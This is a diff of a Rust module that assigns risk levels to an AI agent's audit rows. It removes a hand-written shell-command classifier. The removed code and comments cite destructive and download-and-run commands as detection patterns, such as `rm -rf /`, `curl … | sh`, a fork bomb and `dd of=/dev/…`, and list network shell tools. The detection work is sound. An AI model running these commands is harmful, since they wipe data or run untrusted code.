@@ -1,16 +1,19 @@
 //! Risk levels for audit rows, assigned by explicit rules.
 //!
 //! Why it exists: a log where every row looks alike hides the one that matters. Levels come from
-//! a fixed table of event names and, for shell commands, from the command words a shell would
-//! actually run — never from substring searches, which flag `cat summary.txt` as `rm` and miss
+//! a fixed table of event names and, for tool calls, from what the policy knows about the call:
+//! the tool ([`Tool`]) and, for shell commands, the class the policy's shell analysis gives the
+//! command ([`of_class`], one exhaustive mapping) — never from a second reading of the command
+//! here, and never from substring searches, which flag `cat summary.txt` as `rm` and miss
 //! `/usr/bin/rm -rf /`. Pure functions, so each rule is tested with literal inputs.
 
-use std::borrow::Cow;
 use std::fmt;
+use std::path::Path;
 
 use serde_json::Value;
 
-use crate::policy::bash;
+use crate::policy::bash::{self, Class};
+use crate::policy::{config_files, Tool};
 
 /// How much attention an audit row deserves. Ordered: `Low < Medium < High < Critical`.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
@@ -62,11 +65,12 @@ impl fmt::Display for Risk {
 /// | event           | level                                                                     |
 /// |-----------------|---------------------------------------------------------------------------|
 /// | `path_rejected` | Medium; High if `path`/`input` names a sensitive location (see below)     |
-/// | `tool_decision` | from `{"tool","decision","input"}`: an allowed read-only tool is Low, any |
-/// |                 | other tool Medium (allowed or denied); `Bash` is [`assess_command`] of    |
-/// |                 | `input.command`, one level higher when denied. Any tool whose input names |
-/// |                 | a sensitive location is at least High, and so is a file tool writing a    |
-/// |                 | configuration-as-code file (`.claude/…`, `CLAUDE.md`, `.git/hooks/…`).    |
+/// | `tool_decision` | from `{"tool","decision","input"}`: an allowed tool that only reads is    |
+/// |                 | Low ([`Tool::only_reads`]), any other tool Medium (allowed or denied);    |
+/// |                 | `Bash` is [`assess_command`] of `input.command` (Medium without one), one |
+/// |                 | level higher when denied. Any tool whose input names a sensitive location |
+/// |                 | is at least High, and so is a file tool writing a configuration-as-code   |
+/// |                 | file (`.claude/…`, `CLAUDE.md`, `.git/hooks/…`).                          |
 ///
 /// Any event not listed is Medium: an unknown event fails towards attention.
 ///
@@ -96,19 +100,6 @@ pub const EVENT_RULES: &[(&str, Risk)] = &[
     // Something inside the sandbox tried a host off EGRESS_ALLOW.
     ("egress_denied", Risk::High),
     ("lockout", Risk::Critical),
-];
-
-/// Tools that only read (or only touch Claude's own bookkeeping).
-const READ_ONLY_TOOLS: &[&str] = &[
-    "Read",
-    "Glob",
-    "Grep",
-    "LS",
-    "NotebookRead",
-    "TodoRead",
-    "TodoWrite",
-    "BashOutput",
-    "ExitPlanMode",
 ];
 
 /// Keys of a tool's input that hold paths (or a command line) worth checking for sensitive
@@ -149,13 +140,13 @@ fn path_rejected(details: &Value) -> Risk {
 }
 
 fn tool_decision(details: &Value) -> Risk {
-    let tool = details.get("tool").and_then(Value::as_str).unwrap_or("");
+    let tool = Tool::parse(details.get("tool").and_then(Value::as_str).unwrap_or(""));
     let allowed = matches!(
         details.get("decision").and_then(Value::as_str),
         Some("allow" | "allowed" | "approve" | "approved")
     );
     let input = details.get("input").unwrap_or(&Value::Null);
-    let mut risk = if tool.eq_ignore_ascii_case("bash") {
+    let mut risk = if tool == Tool::Bash {
         let base = input
             .get("command")
             .and_then(Value::as_str)
@@ -165,7 +156,7 @@ fn tool_decision(details: &Value) -> Risk {
         } else {
             base.raised()
         }
-    } else if allowed && READ_ONLY_TOOLS.contains(&tool) {
+    } else if allowed && tool.only_reads() {
         Risk::Low
     } else {
         Risk::Medium
@@ -177,7 +168,7 @@ fn tool_decision(details: &Value) -> Risk {
                 .iter()
                 .filter_map(|k| map.get(*k))
                 .any(|v| value_mentions_sensitive(v, 0))
-                || (tool == "Glob"
+                || (tool == Tool::Glob
                     && map
                         .get("pattern")
                         .is_some_and(|v| value_mentions_sensitive(v, 0)))
@@ -185,12 +176,12 @@ fn tool_decision(details: &Value) -> Risk {
         _ => false,
     };
     // Changing configuration-as-code (the policy's `config_files`) is a deferred command.
-    let config_write = crate::policy::WRITE_TOOLS.contains(&tool)
-        && ["file_path", "notebook_path"].iter().any(|k| {
+    let config_write = tool.writes_files()
+        && tool.path_keys().unwrap_or_default().iter().any(|k| {
             input
                 .get(*k)
                 .and_then(Value::as_str)
-                .is_some_and(crate::policy::config_files::names_config_file)
+                .is_some_and(config_files::names_config_file)
         });
     if sensitive || config_write {
         risk = risk.max(Risk::High);
@@ -233,34 +224,6 @@ const KEY_FILES: &[&str] = &[
     "id_ed25519_sk",
 ];
 const ENV_TEMPLATES: &[&str] = &[".env.example", ".env.sample", ".env.template", ".env.dist"];
-/// Top-level trees that are sensitive to write (in addition to [`SENSITIVE_ROOTS`]).
-const SYSTEM_WRITE_ROOTS: &[&str] = &["dev", "boot", "usr", "bin", "sbin", "lib", "lib32", "lib64"];
-/// Top-level trees whose recursive removal is a disaster.
-const TOP_LEVEL_DIRS: &[&str] = &[
-    "bin",
-    "boot",
-    "dev",
-    "etc",
-    "home",
-    "lib",
-    "lib32",
-    "lib64",
-    "opt",
-    "proc",
-    "root",
-    "run",
-    "sbin",
-    "srv",
-    "sys",
-    "usr",
-    "var",
-    "Applications",
-    "Library",
-    "System",
-    "Users",
-    "Volumes",
-];
-
 fn is_secret_component(c: &str) -> bool {
     if SECRET_DIRS.contains(&c) {
         return true;
@@ -298,961 +261,36 @@ fn mentions_sensitive_location(text: &str) -> bool {
         .any(is_sensitive_path)
 }
 
-/// Device files that are harmless to write to.
-fn is_benign_device(path: &str) -> bool {
-    matches!(
-        path,
-        "/dev/null" | "/dev/zero" | "/dev/stdout" | "/dev/stderr" | "/dev/stdin" | "/dev/tty"
-    ) || path
-        .strip_prefix("/dev/fd/")
-        .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
-}
-
-fn is_system_write_target(path: &str) -> bool {
-    if is_sensitive_path(path) || crate::policy::config_files::names_config_file(path) {
-        return true;
-    }
-    path.strip_prefix('/')
-        .and_then(|rest| rest.split('/').find(|c| !c.is_empty() && *c != "."))
-        .is_some_and(|first| SYSTEM_WRITE_ROOTS.contains(&first))
-}
-
-/// Risk of writing to `path`: harmless devices Low, system locations High, anything else Medium.
-fn target_risk(path: &str) -> Risk {
-    if is_benign_device(path) {
-        Risk::Low
-    } else if is_system_write_target(path) {
-        Risk::High
-    } else {
-        Risk::Medium
-    }
-}
-
-/// `/`, `/*`, `~`, `$HOME`, `..` (and `../..`), or a top-level system tree such as `/etc`.
-fn is_catastrophic_target(target: &str) -> bool {
-    let mut s = target;
-    loop {
-        if let Some(x) = s.strip_suffix("/*").or_else(|| s.strip_suffix("/.")) {
-            s = x;
-        } else if s.len() > 1 && s.ends_with('/') {
-            s = &s[..s.len() - 1];
-        } else {
-            break;
-        }
-    }
-    if matches!(s, "" | "/" | "~" | "$HOME" | "${HOME}") {
-        return true;
-    }
-    if s.contains("..") && s.split('/').all(|c| matches!(c, ".." | "." | "")) {
-        return true;
-    }
-    s.strip_prefix('/')
-        .is_some_and(|rest| !rest.contains('/') && TOP_LEVEL_DIRS.contains(&rest))
-}
-
 // ----- shell commands ----------------------------------------------------------------------
 
-/// Risk of a shell command or prompt text on its own (used for tool calls and prompts).
-///
-/// The text is split into simple commands on whitespace and shell operators (`;`, `&&`, `||`,
-/// `|`, `&`, `(`, `)`, backticks, `$(`, newlines); `>`/`>>`/`&>` redirect targets are collected
-/// as writes. Each simple command is judged by its command word — the first word after
-/// stripping `VAR=x` assignments, `sudo`/`doas`, `env`, `nohup`, `time`, `nice`, `timeout`,
-/// `xargs`, `exec`, `command`, `eval`, `sh -c`/`bash -c`/`su -c`, and any path prefix
-/// (`/usr/bin/rm` is `rm`):
-///
-/// - Critical: `rm` with `-r`/`-f` on `/`, `/*`, `~`, `$HOME`, `..` or a top-level system tree
-///   (or `--no-preserve-root`); `mkfs*`, `mke2fs`, `mkswap`, `wipefs`; `dd of=/dev/…`; a fork
-///   bomb; recursive `chmod`/`chown` of such a target; a download (`curl`/`wget`) together with a
-///   shell or interpreter reading its program from stdin or `-c` (`curl … | sh`,
-///   `bash -c "$(curl …)"`, `sh <(wget …)`).
-/// - High: `sudo`, `su`, `doas`, `pkexec`; recursive or world-writable/setuid `chmod`/`chown`;
-///   `rm -rf` of anything; `git push --force`/`-f`/`+ref`/`--delete`; `ssh`, `scp`, `sftp`, `nc`,
-///   `socat`, `telnet`, `curl`, `wget`, remote `rsync`; `publish` of a package; system
-///   administration (`systemctl start`, `crontab -e`, `mount`, `iptables`, `passwd`, …); any
-///   write (redirect or write command) to a system or secret location (`/etc`, `/dev/sda`,
-///   `/usr`, `~/.ssh`, `.env`, …) or to a configuration-as-code file (`.claude/…`, `CLAUDE.md`,
-///   `.git/hooks/…`, `.envrc`, … — the policy's `config_files`), and `git config` changes.
-/// - Medium: other writes (`rm`, `mv`, `cp`, `mkdir`, `tee`, `sed -i`, redirects to files,
-///   mutating `git` subcommands, `npm install`, `pip install`, …), running project code (the
-///   policy's `runs_code` class): interpreters (`python`, `node`, `sh script.sh`, …), programs
-///   run by path (`./probe`, `bin/tool`), build tools and test runners (`make`, `just`,
-///   `pytest`, …) and package-manager subcommands that build or run (`cargo test|build|run`,
-///   `npm test|run|start`, `go test|run|generate`, …); `find -delete`/`-exec` (and the command
-///   it runs), `kill`, `docker`. Unknown command words stay Low here (prose must not look
-///   risky), although the policy treats unknown programs as `runs_code`.
-/// - Low: read-only commands (`ls`, `cat`, `grep`, `rg`, plain `find`, `git status/log/diff`,
-///   `echo`, `pwd`, `head`, `tail`, `wc`, …) and any command word not listed above.
-///
-/// Quotes are removed but their contents are scanned like the rest of the line, so payloads of
-/// `bash -c '…'`, `eval "…"` and `python -c "…os.system('rm -rf /')"` are seen; the price is
-/// that operators inside quoted text split commands there too (`git commit -m 'a; rm -rf /'`,
-/// `grep 'x|rm' f`), and prose with `>` reads as a redirect. For an audit signal, erring that
-/// way is intended. Inside a prompt, only a clause that starts with a command word counts.
+/// Risk of a shell command class: the one mapping from the policy's [`Class`] (ordered by
+/// severity) to audit levels, monotone in that order.
+pub fn of_class(class: Class) -> Risk {
+    match class {
+        Class::ReadOnly => Risk::Low,
+        Class::WritesInside | Class::RunsCode => Risk::Medium,
+        Class::Network | Class::TouchesOutside | Class::Privileged => Risk::High,
+        Class::Destructive | Class::Unparseable => Risk::Critical,
+    }
+}
+
+/// Risk of a Bash command on its own: [`of_class`] of the class the policy's shell analysis
+/// gives it ([`bash::analyze_unplaced`]: the row does not say where the command ran, so
+/// relative paths count as inside the project and absolute ones as outside), at least High when
+/// it may write a configuration-as-code file (`.claude/…`, `CLAUDE.md`, `.git/hooks/…`,
+/// `.envrc`, … — the policy's `config_files`: a deferred command). An empty command runs
+/// nothing: Low.
 pub fn assess_command(command: &str) -> Risk {
-    if has_fork_bomb(command) {
-        return Risk::Critical;
-    }
-    let text: Cow<'_, str> = if command.contains("IFS") {
-        Cow::Owned(command.replace("${IFS}", " ").replace("$IFS", " "))
-    } else {
-        Cow::Borrowed(command)
-    };
-    let mut risk = Risk::Low;
-    let mut fetcher = false;
-    let mut executor = false;
-    for cmd in split_commands(&text) {
-        let v = assess_words(&cmd.words, 0);
-        risk = risk.max(v.risk);
-        fetcher |= v.fetcher;
-        executor |= v.executor;
-        for target in &cmd.writes {
-            risk = risk.max(target_risk(target));
-        }
-        if risk == Risk::Critical {
-            return risk;
-        }
-    }
-    if fetcher && executor {
-        Risk::Critical
-    } else {
-        risk
-    }
-}
-
-/// `:(){ :|:& };:` and its named variants (`bomb(){ bomb|bomb& };bomb`).
-fn has_fork_bomb(text: &str) -> bool {
-    if !text.contains('(') {
-        return false;
-    }
-    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
-    if compact.contains(":(){") {
-        return true;
-    }
-    let is_name_char = |c: char| c.is_alphanumeric() || matches!(c, '_' | ':' | '.' | '-');
-    let mut from = 0;
-    while let Some(pos) = compact.get(from..).and_then(|rest| rest.find("(){")) {
-        let at = from + pos;
-        let before = &compact[..at];
-        let name_start = before
-            .char_indices()
-            .rev()
-            .take(64)
-            .take_while(|(_, c)| is_name_char(*c))
-            .last()
-            .map_or(at, |(i, _)| i);
-        let name = &before[name_start..];
-        let body_start = at + 3;
-        from = body_start;
-        if name.is_empty() {
-            continue;
-        }
-        let rest = &compact[body_start..];
-        let mut limit = rest.len().min(128);
-        while !rest.is_char_boundary(limit) {
-            limit -= 1;
-        }
-        let body = rest[..limit].split('}').next().unwrap_or("");
-        let calls_itself_twice = body.match_indices(name).any(|(i, _)| {
-            body[i + name.len()..]
-                .strip_prefix('|')
-                .is_some_and(|after| after.starts_with(name))
-        });
-        if calls_itself_twice {
-            return true;
-        }
-    }
-    false
-}
-
-#[derive(Debug, Default)]
-struct SimpleCommand {
-    words: Vec<String>,
-    /// Targets of `>`, `>>`, `&>`, `>|` redirects.
-    writes: Vec<String>,
-}
-
-#[derive(Debug, Clone, Copy)]
-enum Redirect {
-    Write,
-    /// `>&target`: a file descriptor (ignored) or, in bash, a file.
-    Dup,
-    Read,
-}
-
-#[derive(Default)]
-struct Splitter {
-    out: Vec<SimpleCommand>,
-    cur: SimpleCommand,
-    word: String,
-    pending: Option<Redirect>,
-}
-
-impl Splitter {
-    fn flush_word(&mut self) {
-        if self.word.is_empty() {
-            return;
-        }
-        let w = std::mem::take(&mut self.word);
-        match self.pending.take() {
-            None => self.cur.words.push(w),
-            Some(Redirect::Write) => self.cur.writes.push(w),
-            Some(Redirect::Dup) => {
-                if !(w == "-" || w.bytes().all(|b| b.is_ascii_digit())) {
-                    self.cur.writes.push(w);
-                }
-            }
-            Some(Redirect::Read) => {}
-        }
-    }
-
-    fn end_command(&mut self) {
-        self.flush_word();
-        self.pending = None;
-        if !self.cur.words.is_empty() || !self.cur.writes.is_empty() {
-            self.out.push(std::mem::take(&mut self.cur));
-        }
-    }
-
-    fn start_redirect(&mut self, r: Redirect) {
-        // `2>file`: the digits are a file descriptor, not an argument.
-        if !self.word.is_empty() && self.word.bytes().all(|b| b.is_ascii_digit()) {
-            self.word.clear();
-        } else {
-            self.flush_word();
-        }
-        self.pending = Some(r);
-    }
-}
-
-fn split_commands(text: &str) -> Vec<SimpleCommand> {
-    let chars: Vec<char> = text.chars().collect();
-    let mut s = Splitter::default();
-    let mut i = 0;
-    while let Some(&c) = chars.get(i) {
-        let next = chars.get(i + 1).copied();
-        match c {
-            '\\' => {
-                // An escaped character is literal; backslash-newline joins lines.
-                if let Some(n) = next.filter(|n| *n != '\n') {
-                    s.word.push(n);
-                }
-                i += 2;
-                continue;
-            }
-            '\'' | '"' => {}
-            '\n' | ';' | '(' | ')' | '`' | '|' => s.end_command(),
-            '&' if next == Some('>') => {
-                s.start_redirect(Redirect::Write);
-                i += 2;
-                if chars.get(i) == Some(&'>') {
-                    i += 1;
-                }
-                continue;
-            }
-            '&' => s.end_command(),
-            '$' if next == Some('(') => {
-                s.end_command();
-                i += 2;
-                continue;
-            }
-            '>' => {
-                s.start_redirect(Redirect::Write);
-                i += 1;
-                while matches!(chars.get(i), Some('>' | '|')) {
-                    i += 1;
-                }
-                if chars.get(i) == Some(&'&') {
-                    s.pending = Some(Redirect::Dup);
-                    i += 1;
-                }
-                continue;
-            }
-            '<' => {
-                s.start_redirect(Redirect::Read);
-                i += 1;
-                while matches!(chars.get(i), Some('<' | '&')) {
-                    i += 1;
-                }
-                continue;
-            }
-            c if c.is_whitespace() => s.flush_word(),
-            c => s.word.push(c),
-        }
-        i += 1;
-    }
-    s.end_command();
-    s.out
-}
-
-#[derive(Debug, Clone, Copy)]
-struct Verdict {
-    risk: Risk,
-    /// Downloads something (`curl`, `wget`).
-    fetcher: bool,
-    /// Runs a program read from stdin or an empty `-c` filled by a substitution.
-    executor: bool,
-}
-
-impl Verdict {
-    fn of(risk: Risk) -> Verdict {
-        Verdict {
-            risk,
-            fetcher: false,
-            executor: false,
-        }
-    }
-
-    fn merge(&mut self, other: Verdict) {
-        self.risk = self.risk.max(other.risk);
-        self.fetcher |= other.fetcher;
-        self.executor |= other.executor;
-    }
-}
-
-const MAX_NESTING: u8 = 4;
-
-const SHELLS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh",
-];
-
-/// Shell keywords that may precede a command word.
-const KEYWORDS: &[&str] = &[
-    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}", "esac",
-];
-
-fn is_assignment(word: &str) -> bool {
-    match word.split_once('=') {
-        Some((name, _)) => {
-            name.chars()
-                .next()
-                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
-                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
-        }
-        None => false,
-    }
-}
-
-/// The command word without any directory prefix: `/usr/bin/rm` → `rm`.
-fn command_name(word: &str) -> &str {
-    word.rsplit('/').next().unwrap_or(word)
-}
-
-fn is_option(word: &str) -> bool {
-    word.len() > 1 && word.starts_with('-')
-}
-
-/// Index of the first word at or after `i` that is not an option; `with_arg` options consume
-/// the next word too. `--` ends the options.
-fn skip_options(words: &[String], mut i: usize, with_arg: &[&str]) -> usize {
-    while let Some(w) = words.get(i) {
-        if w == "--" {
-            return i + 1;
-        }
-        if !is_option(w) {
-            break;
-        }
-        i += if with_arg.contains(&w.as_str()) { 2 } else { 1 };
-    }
-    i
-}
-
-fn operands(args: &[String]) -> impl Iterator<Item = &str> {
-    args.iter().map(String::as_str).filter(|a| !is_option(a))
-}
-
-/// Judge one simple command: unwrap prefixes, then classify the command word.
-fn assess_words(words: &[String], depth: u8) -> Verdict {
-    let mut v = Verdict::of(Risk::Low);
-    let mut i = 0;
-    while let Some(word) = words.get(i) {
-        if is_assignment(word) {
-            i += 1;
-            continue;
-        }
-        let name = command_name(word);
-        match name {
-            n if KEYWORDS.contains(&n) => i += 1,
-            "sudo" | "doas" | "pkexec" | "run0" => {
-                v.risk = v.risk.max(Risk::High);
-                i = skip_options(
-                    words,
-                    i + 1,
-                    &[
-                        "-u", "-g", "-p", "-C", "-D", "-h", "-r", "-t", "-U", "-T", "--user",
-                        "--group",
-                    ],
-                );
-            }
-            "su" => {
-                v.risk = v.risk.max(Risk::High);
-                match words[i + 1..]
-                    .iter()
-                    .position(|w| w == "-c" || w == "--command")
-                {
-                    Some(p) => i += p + 2,
-                    None => return v,
-                }
-            }
-            "env" => {
-                i += 1;
-                while let Some(w) = words.get(i) {
-                    if w == "--" {
-                        i += 1;
-                        break;
-                    } else if w == "-u" || w == "-C" || w == "--unset" || w == "--chdir" {
-                        i += 2;
-                    } else if is_option(w) || is_assignment(w) {
-                        i += 1;
-                    } else {
-                        break;
-                    }
-                }
-            }
-            "command" => {
-                if matches!(words.get(i + 1).map(String::as_str), Some("-v" | "-V")) {
-                    return v;
-                }
-                i = skip_options(words, i + 1, &[]);
-            }
-            "nohup" | "exec" | "builtin" | "eval" => i += 1,
-            "time" => i = skip_options(words, i + 1, &["-f", "-o"]),
-            "nice" => i = skip_options(words, i + 1, &["-n"]),
-            "ionice" => i = skip_options(words, i + 1, &["-c", "-n"]),
-            "stdbuf" => i = skip_options(words, i + 1, &["-i", "-o", "-e"]),
-            "watch" => i = skip_options(words, i + 1, &["-n", "--interval"]),
-            "xargs" => {
-                i = skip_options(
-                    words,
-                    i + 1,
-                    &["-I", "-n", "-P", "-L", "-d", "-E", "-s", "-a"],
-                );
-            }
-            "timeout" => {
-                i = skip_options(words, i + 1, &["-s", "-k", "--signal", "--kill-after"]);
-                if i < words.len() {
-                    i += 1; // the duration
-                }
-            }
-            n if SHELLS.contains(&n) => {
-                v.risk = v.risk.max(Risk::Medium);
-                let mut j = i + 1;
-                let mut dash_c = false;
-                let mut dash_s = false;
-                while let Some(w) = words.get(j) {
-                    if w == "--" {
-                        j += 1;
-                        break;
-                    }
-                    if !(w.len() > 1 && (w.starts_with('-') || w.starts_with('+'))) {
-                        break;
-                    }
-                    let short = w.starts_with('-') && !w.starts_with("--");
-                    dash_s |= short && w[1..].contains('s');
-                    if short && w[1..].contains('c') {
-                        dash_c = true;
-                        j += 1;
-                        break;
-                    }
-                    j += if matches!(w.as_str(), "-o" | "+o" | "-O" | "+O") {
-                        2
-                    } else {
-                        1
-                    };
-                }
-                let payload_missing = j >= words.len();
-                if dash_c && !payload_missing {
-                    i = j; // the -c payload is itself a command
-                    continue;
-                }
-                // `sh`, `bash -s`, `sh -`: program from stdin; `bash -c "$(…)"`: from a
-                // substitution. Both run whatever arrives.
-                if dash_s || payload_missing || words.get(j).is_some_and(|w| w == "-") {
-                    v.executor = true;
-                }
-                return v;
-            }
-            _ => {
-                v.merge(classify(name, &words[i + 1..], depth));
-                if runs_by_path(word) {
-                    v.risk = v.risk.max(Risk::Medium);
-                }
-                return v;
-            }
-        }
-    }
-    v
-}
-
-/// A program named by a path outside the system's program directories: project code.
-fn runs_by_path(word: &str) -> bool {
-    const SYSTEM_DIRS: &[&str] = &[
-        "/bin/",
-        "/usr/bin/",
-        "/sbin/",
-        "/usr/sbin/",
-        "/usr/local/bin/",
-        "/usr/local/sbin/",
-        "/opt/homebrew/bin/",
-    ];
-    word.contains('/')
-        && !word.ends_with('/')
-        && !SYSTEM_DIRS
-            .iter()
-            .any(|d| word.strip_prefix(d).is_some_and(|rest| !rest.contains('/')))
-}
-
-/// Subcommands of package managers (`cargo`, `npm`, `go`, …) that build or run project code.
-const RUNS_CODE_SUBCOMMANDS: &[&str] = &[
-    "build", "b", "check", "c", "test", "t", "run", "r", "bench", "clippy", "doc", "fix", "start",
-    "exec", "x", "generate", "nextest", "rustc",
-];
-
-const INTERPRETERS: &[&str] = &[
-    "python",
-    "python2",
-    "python3",
-    "pypy",
-    "pypy3",
-    "node",
-    "nodejs",
-    "deno",
-    "perl",
-    "ruby",
-    "php",
-    "lua",
-    "luajit",
-    "Rscript",
-    "osascript",
-    "pwsh",
-    "powershell",
-    "tclsh",
-];
-
-const PACKAGE_MANAGERS: &[&str] = &[
-    "npm", "pnpm", "yarn", "bun", "pip", "pip3", "pipx", "uv", "poetry", "pdm", "cargo", "gem",
-    "bundle", "go", "brew", "apt", "apt-get", "aptitude", "yum", "dnf", "pacman", "apk", "zypper",
-    "conda", "mamba", "composer", "snap", "flatpak", "nix-env", "port",
-];
-
-const INSTALL_SUBCOMMANDS: &[&str] = &[
-    "install",
-    "i",
-    "add",
-    "ci",
-    "uninstall",
-    "remove",
-    "rm",
-    "un",
-    "update",
-    "upgrade",
-    "up",
-    "get",
-    "sync",
-    "reinstall",
-    "link",
-    "dist-upgrade",
-    "full-upgrade",
-    "purge",
-    "autoremove",
-    "dlx",
-];
-
-const ADMIN_COMMANDS: &[&str] = &[
-    "shutdown",
-    "reboot",
-    "halt",
-    "poweroff",
-    "init",
-    "telinit",
-    "systemctl",
-    "service",
-    "iptables",
-    "ip6tables",
-    "nft",
-    "ufw",
-    "firewall-cmd",
-    "crontab",
-    "useradd",
-    "userdel",
-    "usermod",
-    "groupadd",
-    "groupdel",
-    "adduser",
-    "deluser",
-    "passwd",
-    "chpasswd",
-    "visudo",
-    "mount",
-    "umount",
-    "insmod",
-    "rmmod",
-    "modprobe",
-    "launchctl",
-    "sysctl",
-    "chattr",
-    "setfacl",
-    "fdisk",
-    "sfdisk",
-    "gdisk",
-    "parted",
-    "cryptsetup",
-    "swapoff",
-    "setenforce",
-    "chroot",
-];
-
-const NETWORK_COMMANDS: &[&str] = &[
-    "ssh", "scp", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "ftp",
-];
-
-const ARCHIVERS: &[&str] = &["tar", "zip", "unzip", "gzip", "gunzip", "bzip2", "xz", "7z"];
-
-fn is_interpreter(name: &str) -> bool {
-    INTERPRETERS.contains(&name) || name.starts_with("python3.") || name.starts_with("python2.")
-}
-
-/// Classify a command word (already unwrapped) with its arguments.
-fn classify(name: &str, args: &[String], depth: u8) -> Verdict {
-    match name {
-        "rm" => Verdict::of(rm_risk(args)),
-        "mkfs" | "mke2fs" | "mkswap" | "wipefs" => Verdict::of(Risk::Critical),
-        n if n.starts_with("mkfs.") => Verdict::of(Risk::Critical),
-        "dd" => Verdict::of(dd_risk(args)),
-        "chmod" | "chown" | "chgrp" => Verdict::of(permission_risk(name, args)),
-        "git" => Verdict::of(git_risk(args)),
-        "curl" | "wget" => Verdict {
-            risk: Risk::High,
-            fetcher: true,
-            executor: false,
-        },
-        n if NETWORK_COMMANDS.contains(&n) => Verdict::of(Risk::High),
-        "rsync" => {
-            if operands(args).any(|a| a.contains(':')) {
-                Verdict::of(Risk::High)
-            } else {
-                Verdict::of(writes_risk(operands(args)))
-            }
-        }
-        "find" => find_verdict(args, depth),
-        "sed" => {
-            let in_place = args.iter().any(|a| {
-                a == "--in-place"
-                    || a.starts_with("--in-place=")
-                    || (is_option(a) && !a.starts_with("--") && a.contains('i'))
-            });
-            if in_place {
-                Verdict::of(writes_risk(operands(args)))
-            } else {
-                Verdict::of(Risk::Low)
-            }
-        }
-        "tee" => Verdict::of(operands(args).map(target_risk).max().unwrap_or(Risk::Low)),
-        "cp" | "ln" | "install" => Verdict::of(writes_risk(operands(args).last())),
-        "mv" | "rmdir" | "mkdir" | "touch" | "truncate" | "shred" | "unlink" | "patch" => {
-            Verdict::of(writes_risk(operands(args)))
-        }
-        n if ARCHIVERS.contains(&n) => Verdict::of(Risk::Medium),
-        "kill" | "pkill" | "killall" | "docker" | "podman" | "kubectl" | "helm" | "terraform" => {
-            Verdict::of(Risk::Medium)
-        }
-        "npx" | "pnpx" | "bunx" | "uvx" => Verdict::of(Risk::Medium),
-        "source" | "." => Verdict {
-            risk: Risk::Medium,
-            fetcher: false,
-            executor: args.is_empty(),
-        },
-        n if is_interpreter(n) => {
-            let info_only = !args.is_empty()
-                && args
-                    .iter()
-                    .all(|a| matches!(a.as_str(), "--version" | "-V" | "--help" | "-h" | "-v"));
-            if info_only {
-                Verdict::of(Risk::Low)
-            } else {
-                Verdict {
-                    risk: Risk::Medium,
-                    fetcher: false,
-                    executor: args.iter().all(|a| a == "-"),
-                }
-            }
-        }
-        n if bash::MAKE_TOOLS.contains(&n) || bash::BUILD_AND_TEST_TOOLS.contains(&n) => {
-            Verdict::of(Risk::Medium)
-        }
-        n if PACKAGE_MANAGERS.contains(&n) => Verdict::of(package_risk(n, args)),
-        n if ADMIN_COMMANDS.contains(&n) => Verdict::of(admin_risk(n, args)),
-        _ => Verdict::of(Risk::Low),
-    }
-}
-
-/// A write command: at least Medium, High if a target is a system or secret location.
-fn writes_risk<'a>(targets: impl IntoIterator<Item = &'a str>) -> Risk {
-    targets
-        .into_iter()
-        .map(target_risk)
-        .fold(Risk::Medium, Risk::max)
-}
-
-fn rm_risk(args: &[String]) -> Risk {
-    let (mut recursive, mut force, mut no_preserve, mut options_done) =
-        (false, false, false, false);
-    let mut targets = Vec::new();
-    for a in args {
-        let a = a.as_str();
-        if !options_done && a == "--" {
-            options_done = true;
-        } else if !options_done && a.starts_with("--") {
-            match a {
-                "--recursive" => recursive = true,
-                "--force" => force = true,
-                "--no-preserve-root" => no_preserve = true,
-                _ => {}
-            }
-        } else if !options_done && is_option(a) {
-            for ch in a.chars().skip(1) {
-                match ch {
-                    'r' | 'R' => recursive = true,
-                    'f' => force = true,
-                    _ => {}
-                }
-            }
-        } else {
-            targets.push(a);
-        }
-    }
-    if no_preserve || ((recursive || force) && targets.iter().any(|t| is_catastrophic_target(t))) {
-        Risk::Critical
-    } else if recursive && force {
-        Risk::High
-    } else {
-        writes_risk(targets)
-    }
-}
-
-fn dd_risk(args: &[String]) -> Risk {
-    let mut risk = Risk::Medium;
-    for target in args.iter().filter_map(|a| a.strip_prefix("of=")) {
-        if target.starts_with("/dev/") && !is_benign_device(target) {
-            return Risk::Critical;
-        }
-        risk = risk.max(target_risk(target));
-    }
-    risk
-}
-
-/// World-writable, 777, or setuid/setgid modes.
-fn is_dangerous_mode(mode: &str) -> bool {
-    if mode.contains("777") || mode.contains("+s") || mode.contains("=s") {
-        return true;
-    }
-    if (3..=4).contains(&mode.len()) && mode.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
-        let digits: Vec<u8> = mode.bytes().map(|b| b - b'0').collect();
-        let world_writable = digits.last().is_some_and(|d| d & 2 != 0);
-        let set_id = digits.len() == 4 && digits[0] & 6 != 0;
-        return world_writable || set_id;
-    }
-    mode.split(',').any(|clause| {
-        let who_end = clause.find(['+', '=']).unwrap_or(clause.len());
-        let who = &clause[..who_end];
-        let perms = &clause[who_end..];
-        (who.contains('a') || who.contains('o')) && perms.contains('w')
-    })
-}
-
-fn permission_risk(name: &str, args: &[String]) -> Risk {
-    let mut recursive = false;
-    let mut rest = Vec::new();
-    for a in args {
-        let a = a.as_str();
-        if a == "--recursive" {
-            recursive = true;
-        } else if a.starts_with("--") {
-            // other long options (--reference=…, --verbose)
-        } else if is_option(a) && a.chars().skip(1).all(|c| "RcfvhHLP".contains(c)) {
-            recursive |= a.contains('R');
-        } else {
-            rest.push(a);
-        }
-    }
-    let (spec, targets) = match rest.split_first() {
-        Some((spec, targets)) => (*spec, targets),
-        None => return Risk::Medium,
-    };
-    if recursive && targets.iter().any(|t| is_catastrophic_target(t)) {
-        return Risk::Critical;
-    }
-    let dangerous = name == "chmod" && is_dangerous_mode(spec);
-    if recursive || dangerous {
-        Risk::High
-    } else {
-        writes_risk(targets.iter().copied())
-    }
-}
-
-fn is_force_push_arg(a: &str) -> bool {
-    matches!(a, "--force" | "--mirror" | "--delete")
-        || a.starts_with("--force-")
-        || (is_option(a) && !a.starts_with("--") && (a.contains('f') || a.contains('d')))
-        || (a.len() > 1 && (a.starts_with('+') || a.starts_with(':')))
-}
-
-fn git_risk(args: &[String]) -> Risk {
-    let mut i = 0;
